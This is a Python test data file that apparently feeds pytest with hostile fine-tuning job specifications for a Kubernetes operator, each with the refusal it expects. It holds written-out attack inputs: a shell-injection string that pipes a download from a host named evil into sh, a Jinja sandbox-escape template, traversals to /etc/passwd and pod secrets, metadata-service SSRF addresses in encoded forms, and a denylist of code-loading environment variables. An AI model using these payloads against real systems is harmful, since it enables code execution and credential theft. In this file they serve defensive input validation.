"""Hostile specs: what somebody tries who may create FineTuneJobs and nothing else, and what it must come to.

`says` is a part of the refusal; None: the manifest is accepted, and its objects must be as harmless as any other's
(test_hostile_specs.py says what that is). `set` changes BASE by dotted path, as in tests/schema/manifests.yaml.
"""

# ruff: noqa: E501 - one case a line, like the rows of a table

import copy
from dataclasses import dataclass, field
from typing import Any

import pytest

BASE: dict[str, Any] = {
    "basemodel": "hf://org/model",
    "finetuningGpus": 2,
    "data_conf": {
        "training_data": {"type": "CONCATENATION", "datasets": [{"path": "s3://bucket/train.jsonl"}]},
        "validation_data": {"type": "AUTO_SPLIT"},
    },
    "training_args": {"learning_rate": 0.00002},
    "batchsize_conf": {"total_train_batch_size": 8, "max_per_device_train_batch_size": 2},
    "peft_conf": {"peft_type": "NO_PEFT"},
    "run_conf": {},
    "sft_args": {},
}
DATA = "data_conf.training_data.datasets"
SHELL = "$(touch /tmp/owned); `id`; touch x && curl evil | sh #"
JINJA = "{{ ''.__class__.__mro__[1].__subclasses__() }}{% for x in range(10**9) %}{% endfor %}"


@dataclass(frozen=True)
class Case:
    """One attempt."""

    name: str
    set: dict[str, Any] = field(default_factory=dict)
    says: str | None = None
    at: str = ""  # where the refusal is, if not at the one key that is set
    job: str = "demo"

    @property
    def spec(self) -> dict[str, Any]:
        """BASE with what is set."""
        spec = copy.deepcopy(BASE)
        for path, value in self.set.items():
            *parents, key = path.split(".")
            target = spec
            for step in parents:
                target = target.setdefault(step, {})
            target[key] = copy.deepcopy(value)
        return spec


def data(path: str, **more: Any) -> dict[str, Any]:
    return {DATA: [{"path": path, **more}]}


def model(**arguments: Any) -> dict[str, Any]:
    return {"run_conf.model_args": arguments}


def env(name: str, value: Any = "x", **more: Any) -> dict[str, Any]:
    return {"env": [{"name": name, **({"value": value} if value is not None else {}), **more}]}


AT_DATA = f"{DATA}[0].path"
CASES: tuple[Case, ...] = (
    # --- commands in text: nothing here is ever given to a shell
    Case("shell in the experiment's name", {"tracking": {"mlflow_server_uri": "http://m", "experiment_name": SHELL}}),
    Case("shell in a run's name", {"tracking": {"mlflow_server_uri": "http://m", "experiment_name": "e", "run_name": SHELL}}),
    Case("shell in the tracking URI", {"tracking": {"mlflow_server_uri": f"http://{SHELL}", "experiment_name": "e"}}),
    Case("shell in an annotation", {"annotations": {"note": SHELL}}),
    Case("shell in an environment value", env("EXTRA", SHELL)),
    Case("shell in the exclude glob", {"hfDownloadExcludeGlob": SHELL}),
    Case("shell in the data's path", data(f"s3://bucket/{SHELL}")),
    Case("shell in the model's path", {"basemodel": f"s3://bucket/{SHELL}"}),
    Case("shell in the upload's path", {"checkpointsRemote": f"s3://bucket/{SHELL}"}),
    Case("shell in the S3 host", {"bucketStorageHost": f"https://{SHELL}"}),
    Case("shell in a proxy", {"httpsProxy": f"http://{SHELL}"}),
    Case("shell in the no-proxy list", {"noProxy": SHELL}),
    Case("shell in the revision", model(revision=SHELL)),
    Case("shell in the image", {"finetuningImage": f"trainer:1{SHELL}"}, "does not match"),
    Case("shell in a label", {"labels": {"note": SHELL}}, "label's value", "labels.note"),
    Case("shell in a Secret's name", {"hfTokenSecret": {"name": SHELL}}, "does not match", "hfTokenSecret.name"),
    Case("shell in a Secret's key", {"hfTokenSecret": {"name": "s", "key": SHELL}}, "does not match", "hfTokenSecret.key"),
    Case("shell in the storage class", {"storageClass": SHELL}, "does not match"),
    Case("shell in the queue", {"queueName": SHELL}, "does not match"),
    Case("shell in a size", {"downloadsReservedSize": "1Gi; id"}, "does not match"),
    Case("shell in the GPU resource", {"gpuResource": SHELL}, "does not match"),
    Case("shell in a variable's name", env("A;id"), "does not match", "env[0].name"),
    Case("shell in the optimizer's arguments", {"training_args.optim_args": SHELL}),
    Case("shell in the job's name", job="demo;id", says="must be at most", at="metadata.name"),
    # --- templates
    Case("a template in a prompt", {
        "data_conf.validation_data": {"type": "AUTO_SPLIT"}, "training_args.eval_strategy": "epoch",
        "evaluation_conf": {"sample_prompts": [JINJA]},
    }),
    Case("a template in a name", {"tracking": {"mlflow_server_uri": "http://m", "experiment_name": JINJA[:100]}}),
    Case("a template of one's own", {"data_conf.chat_template_name": JINJA}, "chat"),
    # --- paths that lead elsewhere
    Case("out of the claim of the model", {"basemodel": "pvc://claim/../../etc"}, "'..'"),
    Case("out of the claim of the data", data("pvc://claim/../other/data.jsonl"), "'..'", AT_DATA),
    Case("a claim in another namespace", data("pvc://other/ns/../../x.jsonl"), "'..'", AT_DATA),
    Case("a claim whose name is a path", data("pvc://../x.jsonl"), "'..'", AT_DATA),
    Case("an absolute path in a claim", {"basemodel": "pvc://claim//etc/passwd"}),
    Case("out of the ConfigMap", data("configmap://name/../token"), "'..'", AT_DATA),
    Case("a folder as a ConfigMap's key", data("configmap://name/a/b"), "names no key", AT_DATA),
    Case("the kubelet's own folder in a ConfigMap", data("configmap://name/..data")),
    Case("out of the bucket", data("s3://bucket/../../other/x.jsonl"), "'..'", AT_DATA),
    Case("out of the repository", {"basemodel": "hf://org/../../etc"}, "'..'"),
    Case("out of a data repository", data("hf://datasets/org/name/../../x.jsonl"), "'..'", AT_DATA),
    Case("a repository without a name", {"basemodel": "hf://org//x"}, "incomplete"),
    Case("an encoded slash in a repository", {"basemodel": "hf://org%2F..%2Fevil/model"}),
    Case("out of the model's folder", model(subfolder="../../etc"), "leads out of the model", "run_conf.model_args.subfolder"),
    Case("an absolute folder", model(subfolder="/etc"), "leads out of the model", "run_conf.model_args.subfolder"),
    Case("a variant that is a path", model(variant="../../x"), "is a path", "run_conf.model_args.variant"),
    Case("a tokenizer elsewhere in the pod", {"run_conf.tokenizer": "/etc/finetune"}, "place of the pod's own"),
    Case("a tokenizer out of its repository", {"run_conf.tokenizer": "../../etc"}, "'..'"),
    Case("an adapter out of its repository", {
        "peft_conf": {"peft_type": "PRETRAINED_PEFT", "name_or_path": "s3://b/../x"},
    }, "'..'", "peft_conf.name_or_path"),
    Case("checkpoints among the system's files", {"run_conf.resume_from_checkpoint": "/etc"}, "no place for checkpoints"),
    Case("checkpoints by way of the volume", {"run_conf.resume_from_checkpoint": "/workdir/../etc"}, "no place for"),
    Case("a result's name that is a path", {"sft_args.save_name_if_new_basemodel": "../../etc"}, "save_name"),
    Case("a checkpoint's name that is a path", {"run_conf.final_checkpoint_name": "../../etc"}, "checkpoint-final"),
    Case("results elsewhere", {"training_args.output_dir": "/etc"}, "output_dir"),
    Case("a log folder elsewhere", {"training_args.logging_dir": "/etc"}),
    Case("an upload into the pod", {"checkpointsRemote": "/results"}, "cannot be used here"),
    Case("an upload into a claim", {"checkpointsRemote": "pvc://claim/x"}, "cannot be used here"),
    Case("a cache elsewhere", model(cache_dir="/etc"), "model cache", "run_conf.model_args.cache_dir"),
    Case("the environment of the pod as data", data("/proc/self/environ"), "place of the pod's own", AT_DATA),
    Case("the same, spelled otherwise", data("//proc/./self/../self/environ"), "place of the pod's own", AT_DATA),
    Case("the same, as a URL", data("file:///proc/1/environ"), "place of the pod's own", AT_DATA),
    Case("a service account's token as data", data("/var/run/secrets/eks.amazonaws.com/serviceaccount/token"), "place of", AT_DATA),
    Case("a device as data", data("/sys/kernel/security"), "place of the pod's own", AT_DATA),
    Case("a scheme of fsspec's", data("zip://x.jsonl::s3://bucket/a.zip"), "unknown scheme", AT_DATA),
    Case("a chain of file systems", data("simplecache::file:///etc/passwd"), "unknown scheme", AT_DATA),
    Case("a scheme that runs commands", data("ssh://host/x.jsonl"), "unknown scheme", AT_DATA),
    Case("a CA bundle's key that is a path", {"caBundleConfigMap": {"name": "c", "key": "../x"}}, "does not match", "caBundleConfigMap.key"),
    # --- addresses
    Case("the node's credentials as data", data("http://169.254.169.254/latest/meta-data/iam"), "metadata service", AT_DATA),
    Case("the same as a number", data("http://2852039166/latest/x.jsonl"), "metadata service", AT_DATA),
    Case("the same in hex", data("http://0xa9fea9fe/latest/x.jsonl"), "metadata service", AT_DATA),
    Case("the same in octal", data("http://0251.0376.0251.0376/x.jsonl"), "metadata service", AT_DATA),
    Case("the same in IPv6", data("http://[::ffff:169.254.169.254]/x.jsonl"), "metadata service", AT_DATA),
    Case("the same by name", data("http://METADATA.google.internal./x.jsonl"), "metadata service", AT_DATA),
    Case("link-local IPv6", data("http://[fe80::1%25eth0]/x.jsonl"), "metadata service", AT_DATA),
    Case("as the S3 endpoint", {"bucketStorageHost": "http://169.254.169.254"}, "metadata service"),
    Case("as a proxy", {"httpProxy": "http://169.254.169.254:80"}, "metadata service"),
    Case("as the tracking server", {
        "tracking": {"mlflow_server_uri": "http://169.254.169.254", "experiment_name": "e"},
    }, "metadata service", "tracking.mlflow_server_uri"),
    Case("credentials in a URL", data("https://user:word@host/x.jsonl"), "credentials", AT_DATA),
    Case("a host behind a user's name", data("https://good.example.com@evil/x.jsonl"), "credentials", AT_DATA),
    Case("credentials in a proxy", {"httpProxy": "http://user:word@host"}, "credentials"),
    Case("credentials for MLflow", {
        "tracking": {"mlflow_server_uri": "https://u:p@host", "experiment_name": "e"},
    }, "credentials", "tracking.mlflow_server_uri"),
    Case("a tracking store that is a secret's value", {
        "tracking": {"mlflow_server_uri": "http://host/$(AWS_SECRET_ACCESS_KEY)", "experiment_name": "e"},
        "bucketCredentialsSecret": {"name": "s"},
    }),
    # --- the environment
    *(Case(f"{name} in the environment", env(name), "decides which code", "env[0].name") for name in (
        "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "PYTHONPATH", "PYTHONSTARTUP", "PYTHONHOME", "PYTHONUSERBASE",
        "PATH", "HOME", "BASH_ENV", "GCONV_PATH", "GLIBC_TUNABLES", "HF_MODULES_CACHE", "OPENSSL_CONF",
    )),
    *(Case(f"{name} in the environment", env(name), "set by the operator", "env[0].name") for name in (
        "FINETUNE_CONFIG", "FINETUNE_SECRET_ENV", "FINETUNE_WORK_DIR", "POD_IP", "RANK", "MASTER_ADDR", "MLFLOW_TRACKING_URI",
    )),
    Case("a token in the environment", env("HF_TOKEN", "hf_1"), "hfTokenSecret", "env[0].name"),
    Case("a field of the pod", env("X", None, valueFrom={"fieldRef": {"fieldPath": "spec"}}), "unknown key", "env[0].valueFrom.fieldRef"),
    Case("a resource of the pod", env("X", None, valueFrom={"resourceFieldRef": {"resource": "x"}}), "unknown key", "env[0].valueFrom.resourceFieldRef"),
    Case("a file as a variable", env("X", None, valueFrom={"fileKeyRef": {"path": "/etc"}}), "unknown key", "env[0].valueFrom.fileKeyRef"),
    Case("two sources of a variable", env("X", None, valueFrom={"secretKeyRef": {"name": "a", "key": "b"}, "configMapKeyRef": {"name": "a", "key": "b"}}), "exactly one", "env[0].valueFrom"),
    Case("all of a Secret", {"envFrom": [{"secretRef": {"name": "s"}}]}, "unknown key"),
    # --- more pod than a training needs
    Case("a pod spec", {"podSpec": {"hostNetwork": True}}, "unknown key"),
    Case("a pod template", {"template": {"spec": {"hostPID": True}}}, "unknown key"),
    Case("a command", {"command": ["sh"]}, "unknown key"),
    Case("a host path", {"volumes": [{"hostPath": {"path": "/"}}]}, "unknown key"),
    Case("privilege", {"securityContext": {"privileged": True}}, "unknown key"),
    Case("a sidecar", {"initContainers": [{"image": "evil"}]}, "unknown key"),
    Case("an API token", {"automountServiceAccountToken": True}, "unknown key"),
    Case("an account with more rights", {"serviceAccountName": "cluster-admin"}),
    Case("the system's priority", {"priorityClassName": "system-node-critical"}, "belong to Kubernetes"),
    Case("code of a repository", model(trust_remote_code=True), "40 hex digits", "run_conf.model_args.trust_remote_code"),
    Case("code of a branch that looks pinned", {"basemodel": "hf://org/model@main", "run_conf.model_args": {"trust_remote_code": True, "revision": "a" * 40}}, "40 hex digits", "run_conf.model_args.trust_remote_code"),
    Case("code at another revision", model(code_revision="evil"), "code_revision", "run_conf.model_args.code_revision"),
    Case("an attention from a hub", model(attn_implementation="evil/kernel"), "is not one of", "run_conf.model_args.attn_implementation"),
    Case("a push to the hub", {"training_args.push_to_hub": True}, "push_to_hub"),
    Case("a DeepSpeed file", {"training_args.deepspeed": {"x": "/etc/passwd"}}, "deepspeed"),
    Case("an Accelerate config that names a script", {"distributedType": "custom-accelerate-config", "customAccelerateConfig": {"main_training_function": "os.system", "main_process_ip": SHELL}}, "", "customAccelerateConfig"),
    Case("an Accelerate config that names files", {"distributedType": "custom-accelerate-config", "customAccelerateConfig": {"deepspeed_config": {"deepspeed_hostfile": "/etc/passwd"}}}, "", "customAccelerateConfig"),
    Case("an Accelerate config that runs commands", {"distributedType": "custom-accelerate-config", "customAccelerateConfig": {"commands": ["id"], "command_file": "/x"}}, "", "customAccelerateConfig"),
    Case("adapters from a path", {"peft_conf": {"peft_type": "LORA", "peft_kwargs": {"init_lora_weights": "/etc/passwd"}}}, "init_lora_weights", "peft_conf.peft_kwargs"),
    # --- labels, annotations, names
    Case("labels of another job's pods", {"labels": {"finetune-operator.io/job-uid": "other"}}, "is reserved", "labels.finetune-operator.io/job-uid"),
    Case("labels of another Job", {"labels": {"batch.kubernetes.io/job-name": "other"}}, "is reserved", "labels.batch.kubernetes.io/job-name"),
    Case("labels of another Job, by the old name", {"labels": {"job-name": "other"}}, "is reserved", "labels.job-name"),
    Case("labels of another controller", {"labels": {"controller-uid": "other"}}, "is reserved", "labels.controller-uid"),
    Case("labels of the operator's pods", {"labels": {"app.kubernetes.io/component": "operator"}}, "is reserved", "labels.app.kubernetes.io/component"),
    Case("a queue behind the API's back", {"labels": {"kueue.x-k8s.io/queue-name": "other"}}, "use queueName", "labels.kueue.x-k8s.io/queue-name"),
    Case("an unconfined container", {"annotations": {"container.apparmor.security.beta.kubernetes.io/train": "unconfined"}}, "is reserved", "annotations.container.apparmor.security.beta.kubernetes.io/train"),
    Case("a bound claim", {"annotations": {"pv.kubernetes.io/bind-completed": "yes"}}, "is reserved", "annotations.pv.kubernetes.io/bind-completed"),
    Case("a runtime's own annotations", {"annotations": {"io.katacontainers.config.hypervisor.path": "/evil"}}, "is reserved", "annotations.io.katacontainers.config.hypervisor.path"),
    Case("a line break in a label's key", {"labels": {"a\nb": "x"}}, "a key is"),
    Case("a label's key that is a path", {"labels": {"../../x": "x"}}, "a key is"),
    Case("a line break in a label", {"labels": {"note": "a\nb"}}, "label's value", "labels.note"),
    Case("a forged line of the log", {"tracking": {"mlflow_server_uri": "http://m", "experiment_name": "a\nERROR x"}}, "U+000A", "tracking.experiment_name"),
    Case("an escape sequence", data("s3://bucket/\x1b[2Jx.jsonl"), "U+001B", AT_DATA),
    Case("a zero byte", {"basemodel": "s3://bucket/a\0b"}, "U+0000"),
    Case("text in the other direction", {"basemodel": "s3://bucket/\u202egnp.exe"}, "U+202E"),
    Case("a line break in a variable, which is content", env("EXTRA", "a\nb")),
    Case("a name of others' objects", job="demo-checkpoints"),
    Case("a name with two meanings", job="a_b", says="must be at most", at="metadata.name"),
    Case("a name in another namespace", job="../kube-system", says="must be at most", at="metadata.name"),
    # --- sizes
    Case("a memory of everything", {"memoryPerGpu": 1e308}, "1e+06"),
    Case("no number", {"training_args.learning_rate": float("nan")}, "learning_rate", "training_args.learning_rate"),
    Case("endless epochs", {"num_train_epochs": 1e300}, "", "num_train_epochs"),
    Case("a billion nodes", {"nodes": 10**9}, "1024", "nodes"),
    Case("a volume of everything", {"checkpointsReservedSize": "9" * 40 + "Ei"}, "32", "checkpointsReservedSize"),
    Case("a name of a megabyte", {"basemodel": "s3://b/" + "x" * 2**20}, "1024"),
    Case("a million datasets", {DATA: [{"path": "s3://b/x.jsonl"}] * 10**5}, "128", DATA),
    Case("a thousand variables", {"env": [{"name": f"A{i}", "value": "x" * 4096} for i in range(1000)]}, "64", "env"),
    Case("a deep configuration", {"peft_conf": {"peft_type": "LORA", "peft_kwargs": {"x": [[[[[[{}]]]]]]}}}, "x", "peft_conf.peft_kwargs"),
)  # fmt: skip


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    kinds = {"refused": lambda case: case.says is not None, "harmless": lambda case: case.says is None}
    for name, wanted in kinds.items():
        if name in metafunc.fixturenames:
            cases = [case for case in CASES if wanted(case)]
            metafunc.parametrize(name, cases, ids=[case.name for case in cases])


@pytest.fixture
def cases() -> tuple[Case, ...]:
    return CASES
